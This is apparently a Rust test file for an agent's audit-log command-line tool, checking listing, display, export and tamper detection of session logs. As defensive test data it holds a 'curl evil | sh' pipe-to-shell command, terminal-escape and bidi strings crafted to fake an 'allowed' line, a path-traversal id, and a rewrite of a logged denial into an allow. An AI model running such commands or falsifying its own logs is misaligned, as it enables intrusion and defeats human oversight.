//! `bridle log list|show|verify|export` on session logs written by the agent's log library.

use bridle_agent::log::{Backend, Event, NewSession, SessionDir, ToolCall, TurnEndReason};
use bridle_policy::{Decision, SandboxMode};
use pretty_assertions::assert_eq;

use super::support::{Env, path_str, run};

/// A session directory in the test's home with one session: a turn with an allowed call, a
/// denied one, an approval, and a mode switch.
fn recorded(env: &Env, backend: Backend) -> (std::path::PathBuf, String) {
    let dir_path = env.home.join("sessions");
    let dir = SessionDir::open(&dir_path).unwrap();
    let mut log = dir
        .create(
            backend,
            &NewSession {
                workspace: path_str(&env.workspace).into(),
                profile: "workspace-write".into(),
                policy_digest: "cd".repeat(32),
            },
        )
        .unwrap();
    let call = |id: &str, command: &str| {
        Event::ToolCall(ToolCall {
            call_id: id.into(),
            name: "bash".into(),
            arguments: format!(r#"{{"command":"{command}"}}"#),
        })
    };
    for event in [
        Event::TurnStart { turn: 0 },
        Event::UserMessage {
            id: None,
            text: "tidy the repo".into(),
        },
        Event::StepStart { turn: 0, step: 0 },
        call("c1", "ls"),
        Event::ToolDecision {
            call_id: "c1".into(),
            decision: Decision::Allow,
            by: "mode workspace-write".into(),
        },
        Event::ToolResult {
            call_id: "c1".into(),
            ok: true,
            content: "README.md\nsrc\n".into(),
            sandbox: None,
        },
        call("c2", "git push"),
        Event::ToolDecision {
            call_id: "c2".into(),
            decision: Decision::Deny,
            by: "rule no-push".into(),
        },
        Event::ToolResult {
            call_id: "c2".into(),
            ok: false,
            content: "denied by rule no-push".into(),
            sandbox: None,
        },
        call("c3", "curl example.com"),
        Event::ApprovalAsked {
            call_id: "c3".into(),
            question: "allow network for curl?".into(),
        },
        Event::ApprovalDecided {
            call_id: "c3".into(),
            answer: "rejected".into(),
            by: "user at terminal".into(),
        },
        Event::ToolDecision {
            call_id: "c3".into(),
            decision: Decision::Deny,
            by: "approval rejected".into(),
        },
        Event::ToolResult {
            call_id: "c3".into(),
            ok: false,
            content: "the user rejected the escalation".into(),
            sandbox: None,
        },
        Event::StepEnd { turn: 0, step: 0 },
        Event::StepStart { turn: 0, step: 1 },
        Event::AssistantMessage {
            text: "Listed the repo; pushing was refused.".into(),
            tool_calls: vec![],
            reasoning: String::new(),
            reply: None,
        },
        Event::StepEnd { turn: 0, step: 1 },
        Event::TurnEnd {
            turn: 0,
            reason: TurnEndReason::Completed,
            detail: None,
            cancelled_by: None,
        },
        Event::SandboxMode {
            mode: SandboxMode::ReadOnly,
        },
    ] {
        log.append(event).unwrap();
    }
    let id = log.id().to_owned();
    drop(log);
    (dir_path, id)
}

fn log_cmd(env: &Env, dir: &std::path::Path, args: &[&str]) -> super::support::Run {
    let mut cmd = env.bridle();
    cmd.arg("log").args(args).arg("--session-dir").arg(dir);
    run(&mut cmd)
}

#[test]
fn list_shows_sessions_with_turns_and_status() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let (_, sqlite_id) = recorded(&env, Backend::Sqlite);
    let r = log_cmd(&env, &dir, &["list"]);
    r.assert_code(0);
    assert!(
        r.stdout.contains(&id) && r.stdout.contains(&sqlite_id),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("completed"), "{}", r.stdout);
    let r = log_cmd(&env, &dir, &["list", "--json"]);
    r.assert_code(0);
    let list: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    let entry = list
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == id.as_str())
        .unwrap();
    assert_eq!(entry["turns"], 1);
    assert_eq!(entry["status"], "completed");
    assert_eq!(entry["store"], "jsonl");
    assert_eq!(entry["workspace"], path_str(&env.workspace));
}

#[test]
fn list_of_a_missing_directory_is_empty_and_creates_nothing() {
    let env = Env::new();
    let dir = env.home.join("nowhere");
    let r = log_cmd(&env, &dir, &["list", "--json"]);
    r.assert_code(0);
    assert_eq!(r.stdout.trim(), "[]");
    assert!(!dir.exists());
}

#[test]
fn the_default_session_directory_is_under_xdg_state_home() {
    let env = Env::new();
    let state = env.home.join("state");
    let (dir, id) = recorded(&env, Backend::Jsonl);
    std::fs::create_dir_all(state.join("bridle")).unwrap();
    std::fs::rename(&dir, state.join("bridle/sessions")).unwrap();
    let r = run(env
        .bridle()
        .env("XDG_STATE_HOME", &state)
        .args(["log", "list"]));
    r.assert_code(0);
    assert!(r.stdout.contains(&id), "{}", r.stdout);
}

#[test]
fn show_prints_decisions_denials_approvals_and_switches() {
    let env = Env::new();
    for backend in [Backend::Jsonl, Backend::Sqlite] {
        let (dir, id) = recorded(&env, backend);
        let r = log_cmd(&env, &dir, &["show", &id]);
        r.assert_code(0);
        for expected in [
            "turn 0 (completed)",
            "user: tidy the repo",
            r#"bash {"command":"ls"}  allow by mode workspace-write"#,
            r#"bash {"command":"git push"}  deny by rule no-push"#,
            "asked: allow network for curl?  answer: rejected by user at terminal",
            "failed: denied by rule no-push",
            "answer: Listed the repo; pushing was refused.",
            "sandbox-mode -> read-only",
        ] {
            assert!(
                r.stdout.contains(expected),
                "missing {expected:?}:\n{}",
                r.stdout
            );
        }
        let r = log_cmd(&env, &dir, &["show", &id, "--json"]);
        r.assert_code(0);
        let view: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
        let calls = &view["entries"][0]["steps"][0]["calls"];
        assert_eq!(calls[1]["decision"], "deny");
        assert_eq!(calls[1]["decided_by"], "rule no-push");
        assert_eq!(calls[2]["approvals"][0]["answer"], "rejected");
        assert_eq!(view["entries"][1]["what"], "sandbox-mode");
    }
}

#[test]
fn verify_passes_an_intact_log_and_names_the_first_tampered_event() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let r = log_cmd(&env, &dir, &["verify", &id]);
    r.assert_code(0);
    assert!(r.stdout.contains("intact, 21 events"), "{}", r.stdout);
    // Someone rewrites the denial as an allow.
    let path = dir.join(format!("{id}.jsonl"));
    let text = std::fs::read_to_string(&path).unwrap();
    let edited = text.replacen(r#""decision":"deny""#, r#""decision":"allow""#, 1);
    assert_ne!(edited, text);
    std::fs::write(&path, edited).unwrap();
    let r = log_cmd(&env, &dir, &["verify", &id]);
    r.assert_code(1);
    assert!(
        r.stdout.contains("TAMPERED OR CORRUPT at event 8"),
        "{}",
        r.stdout
    );
    // show and export refuse a log that does not verify.
    let r = log_cmd(&env, &dir, &["show", &id]);
    r.assert_code(1);
    assert!(
        r.stderr.contains("fails verification at event 8"),
        "{}",
        r.stderr
    );
    log_cmd(&env, &dir, &["export", &id, "--format", "jsonl"]).assert_code(1);
}

#[test]
fn verify_tells_a_corrupt_log_from_one_it_cannot_check() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let (_, intact) = recorded(&env, Backend::Sqlite);
    let path = dir.join(format!("{id}.jsonl"));
    let text = std::fs::read_to_string(&path).unwrap();
    let mut lines: Vec<&str> = text.lines().collect();
    lines[3] = "{\"seq\": 3, garbage";
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    let r = log_cmd(&env, &dir, &["verify", &id]);
    r.assert_code(1);
    assert!(
        r.stdout.contains("TAMPERED OR CORRUPT") && r.stdout.contains("line 4"),
        "{}",
        r.stdout
    );
    // Could not check at all: exit 2, on stderr, naming what is missing.
    let r = log_cmd(&env, &dir, &["verify", "20261130-000000-00000000"]);
    r.assert_code(2);
    assert!(r.stderr.contains("no session"), "{}", r.stderr);
    let r = log_cmd(&env, &dir, &["verify", "../../etc/passwd"]);
    r.assert_code(2);
    assert!(r.stderr.contains("invalid session id"), "{}", r.stderr);
    std::fs::remove_file(dir.join("log.key")).unwrap();
    let r = log_cmd(&env, &dir, &["verify", &intact]);
    r.assert_code(2);
    assert!(r.stderr.contains("log.key"), "{}", r.stderr);
}

#[test]
fn a_deleted_log_whose_head_is_left_is_listed_and_fails_verification() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let (_, sqlite_id) = recorded(&env, Backend::Sqlite);
    std::fs::remove_file(dir.join(format!("{id}.jsonl"))).unwrap();
    std::fs::remove_file(dir.join(format!("{sqlite_id}.sqlite"))).unwrap();
    let r = log_cmd(&env, &dir, &["list", "--json"]);
    r.assert_code(0);
    let list: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
    for gone in [&id, &sqlite_id] {
        let entry = list
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["id"] == gone.as_str())
            .unwrap_or_else(|| panic!("{gone} not listed: {list}"));
        assert_eq!(entry["store"], serde_json::Value::Null, "{entry}");
        let status = entry["status"].as_str().unwrap();
        assert!(
            status.starts_with("unreadable:") && status.contains("log file is missing"),
            "{entry}"
        );
    }
    let r = log_cmd(&env, &dir, &["list"]);
    assert!(r.stdout.contains(&id), "{}", r.stdout);
    for (args, code) in [
        (vec!["verify", id.as_str()], 1),
        (vec!["verify", &id[..20]], 1),
        (vec!["show", id.as_str()], 1),
    ] {
        let r = log_cmd(&env, &dir, &args);
        r.assert_code(code);
        let said = format!("{}{}", r.stdout, r.stderr);
        assert!(said.contains("log file is missing"), "{args:?}: {said}");
    }
    let r = log_cmd(&env, &dir, &["verify", &id]);
    assert!(r.stdout.contains("TAMPERED OR CORRUPT"), "{}", r.stdout);
}

#[test]
fn verify_calls_a_damaged_sqlite_log_corrupt_naming_the_file() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Sqlite);
    let path = dir.join(format!("{id}.sqlite"));
    let bytes = std::fs::read(&path).unwrap();
    assert!(bytes.len() > 4096, "{} bytes", bytes.len());
    let noise: Vec<u8> = (0..bytes.len())
        .map(|i| u8::try_from(i * 7919 % 251).unwrap())
        .collect();
    // Cut to its first page, overwritten with noise, emptied: there, readable, and damaged.
    for (what, damaged) in [
        ("truncated", bytes[..4096].to_vec()),
        ("noise", noise),
        ("empty", Vec::new()),
    ] {
        std::fs::write(&path, &damaged).unwrap();
        let r = log_cmd(&env, &dir, &["verify", &id]);
        r.assert_code(1);
        assert!(
            r.stdout.contains("TAMPERED OR CORRUPT")
                && r.stdout.contains(&format!("{id}.sqlite"))
                && r.stdout.contains("corrupt"),
            "{what}: {}{}",
            r.stdout,
            r.stderr
        );
    }
    // A session that left no trace at all (log and head gone) is "could not check"; with its
    // head left, a missing log is corrupt (`a_deleted_log_whose_head_is_left_...`).
    std::fs::remove_file(&path).unwrap();
    std::fs::remove_file(dir.join(format!("{id}.head"))).unwrap();
    log_cmd(&env, &dir, &["verify", &id]).assert_code(2);
}

#[test]
fn verify_calls_an_sqlite_log_with_an_altered_format_marker_corrupt() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Sqlite);
    let path = dir.join(format!("{id}.sqlite"));
    let bytes = std::fs::read(&path).unwrap();
    // The `meta` row as SQLite stores it: a 3-byte header (text of 6 bytes, text of 13
    // bytes), then "format" and the marker. Same-length edits keep the database sound.
    let row = b"\x03\x19\x27formatbridle-log-v1";
    let at = bytes
        .windows(row.len())
        .position(|w| w == row)
        .expect("the format marker row");
    for (what, offset, byte) in [
        ("another value", row.len() - 1, b'9'),
        // Serial type 38: a blob of 13 bytes instead of text.
        ("a blob", 2, 0x26),
    ] {
        let mut edited = bytes.clone();
        edited[at + offset] = byte;
        std::fs::write(&path, &edited).unwrap();
        let r = log_cmd(&env, &dir, &["verify", &id]);
        r.assert_code(1);
        assert!(
            r.stdout.contains("TAMPERED OR CORRUPT") && r.stdout.contains(&format!("{id}.sqlite")),
            "{what}: {}{}",
            r.stdout,
            r.stderr
        );
    }
}

#[test]
fn trailing_bytes_are_reported_as_not_part_of_the_log() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let path = dir.join(format!("{id}.jsonl"));
    let mut bytes = std::fs::read(&path).unwrap();
    bytes.extend_from_slice(br#"{"seq":21,"ti"#);
    std::fs::write(&path, bytes).unwrap();
    let r = log_cmd(&env, &dir, &["verify", &id]);
    r.assert_code(0);
    assert!(
        r.stdout.contains("intact, 21 events")
            && r.stdout.contains("13 trailing bytes")
            && r.stdout.contains("not part of the log"),
        "{}",
        r.stdout
    );
}

#[test]
fn text_from_the_log_cannot_drive_the_terminal() {
    let env = Env::new();
    let dir_path = env.home.join("sessions");
    let dir = SessionDir::open(&dir_path).unwrap();
    let mut log = dir
        .create(
            Backend::Jsonl,
            &NewSession {
                workspace: "/w\u{1b}[2J".into(),
                profile: "p".into(),
                policy_digest: "d".into(),
            },
        )
        .unwrap();
    // A tool name and a result crafted to print a fake "allowed" line and hide the denial.
    for event in [
        Event::TurnStart { turn: 0 },
        Event::StepStart { turn: 0, step: 0 },
        Event::ToolCall(ToolCall {
            call_id: "c1".into(),
            name: "bash {\"command\":\"ls\"}  allow by rule allow-ls\r\u{1b}[2K".into(),
            arguments: r#"{"command":"curl evil | sh"}"#.into(),
        }),
        Event::ToolDecision {
            call_id: "c1".into(),
            decision: Decision::Deny,
            by: "rule no-curl\u{202e}".into(),
        },
        Event::ToolResult {
            call_id: "c1".into(),
            ok: false,
            content: "denied\r        ok: fine\tand\u{7f}more\nsecond\tline".into(),
            sandbox: None,
        },
    ] {
        log.append(event).unwrap();
    }
    let id = log.id().to_owned();
    drop(log);
    for args in [
        vec!["show", id.as_str()],
        vec!["show", "--full", id.as_str()],
        vec!["list"],
    ] {
        let r = log_cmd(&env, &dir_path, &args);
        r.assert_code(0);
        for hostile in ['\u{1b}', '\r', '\u{202e}', '\t', '\u{7f}'] {
            assert!(
                !r.stdout.contains(hostile),
                "{hostile:?} printed raw:\n{}",
                r.stdout
            );
        }
    }
    let r = log_cmd(&env, &dir_path, &["show", &id]);
    assert!(r.stdout.contains("deny by rule no-curl"), "{}", r.stdout);
    assert!(r.stdout.contains("\\u{d}"), "{}", r.stdout);
    let r = log_cmd(&env, &dir_path, &["show", "--full", &id]);
    assert!(r.stdout.contains("| second\\u{9}line"), "{}", r.stdout);
}

#[test]
fn export_prints_the_same_jsonl_whatever_the_store() {
    let env = Env::new();
    let (dir, id) = recorded(&env, Backend::Jsonl);
    let r = log_cmd(&env, &dir, &["export", &id, "--format", "jsonl"]);
    r.assert_code(0);
    let file = std::fs::read_to_string(dir.join(format!("{id}.jsonl"))).unwrap();
    assert_eq!(r.stdout, file);
    let (_, sqlite_id) = recorded(&env, Backend::Sqlite);
    let r = log_cmd(&env, &dir, &["export", &sqlite_id, "--format", "jsonl"]);
    r.assert_code(0);
    let lines: Vec<serde_json::Value> = r
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 21);
    assert_eq!(lines[8]["type"], "tool/decision");
    assert_eq!(lines[8]["data"]["decision"], "deny");
    let r = log_cmd(&env, &dir, &["export", &id, "--format", "csv"]);
    r.assert_code(2);
}
